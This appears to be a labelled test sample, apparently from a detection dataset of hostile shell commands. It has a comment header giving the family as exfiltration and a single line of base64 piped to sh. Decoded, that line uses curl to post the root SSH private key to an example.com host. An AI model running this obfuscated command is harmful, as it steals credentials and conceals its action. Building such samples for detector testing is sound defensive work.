# description: Runs a base64-encoded command that sends the SSH key with curl.
# family: exfiltration
# obfuscated: yes
echo Y3VybCAtcyAtZCBAL3Jvb3QvLnNzaC9pZF9yc2EgaHR0cHM6Ly9leGFtcGxlLmNvbS9r | base64 -d | sh
